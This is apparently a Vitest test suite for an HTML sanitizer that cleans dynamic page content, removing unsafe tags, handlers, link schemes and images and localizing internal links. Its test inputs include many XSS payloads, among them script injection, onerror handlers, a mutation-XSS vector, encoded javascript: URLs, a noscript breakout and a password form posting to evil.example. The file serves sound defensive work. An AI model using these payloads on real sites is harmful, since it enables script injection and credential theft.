import { describe, expect, test } from 'vitest';
import { sanitizeDynamicBody } from './dynamic-body';

const clean = (html: string) => sanitizeDynamicBody(html, 'uk');

describe('the body of dynamic content in the page', () => {
  test('layout, classes, tables and text are kept', () => {
    const html = '<section class="hero"><h2>Бал</h2><table><tr><td colspan="2">1</td></tr></table></section>';
    expect(clean(html)).toBe(html);
  });

  test.each([
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x"><base href="https://evil.example/">',
    '<style>body { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ])('nothing of %s is left that runs, loads or sends', (html) => {
    expect(clean(html)).not.toMatch(/<(?!\/?(table|tbody)\b)|onerror|alert/i);
  });

  test.each([
    'javascript:alert(1)',
    ' java\nscript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>1</script>',
    '//evil.example',
    '/\\evil.example',
    '/\t/evil.example',
    'http://evil.example',
    'mailto:a@b.example',
  ])('the address %j becomes no link', (href) => {
    expect(clean(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
  });

  test('links lead inside the site in the reader’s language, and outside without telling', () => {
    expect(clean('<a href="/games?tag=new" target="_top" rel="opener">x</a>')).toBe(
      '<a href="/uk/games?tag=new">x</a>',
    );
    expect(clean('<a href="/ru/games">x</a>')).toBe('<a href="/uk/games">x</a>');
    expect(clean('<a href="https://example.org/a">x</a>')).toBe(
      '<a href="https://example.org/a" rel="noopener nofollow">x</a>',
    );
  });

  test('only pictures of the content service are shown', () => {
    expect(clean('<img src="/content-media/a-1.webp" width="3" onload="x()">')).toBe(
      '<img alt="" src="/content-media/a-1.webp" width="3" loading="lazy" decoding="async" />',
    );
    for (const src of [
      'https://evil.example/a.png',
      '/api/users',
      '/content-media/../api/users',
      'data:image/png,x',
      '',
    ])
      expect(clean(`<img src="${src}">`)).toBe('');
  });

  test('a body has no ids, inline styles or handlers, and can’t end the noscript it may stand in', () => {
    expect(clean('<p id="root" style="position:fixed" onclick="x()" data-x="1">x</p>')).toBe('<p>x</p>');
    expect(clean('<p title="</noscript><img src=x onerror=alert(1)>">x</p>')).not.toContain('</noscript>');
  });
});
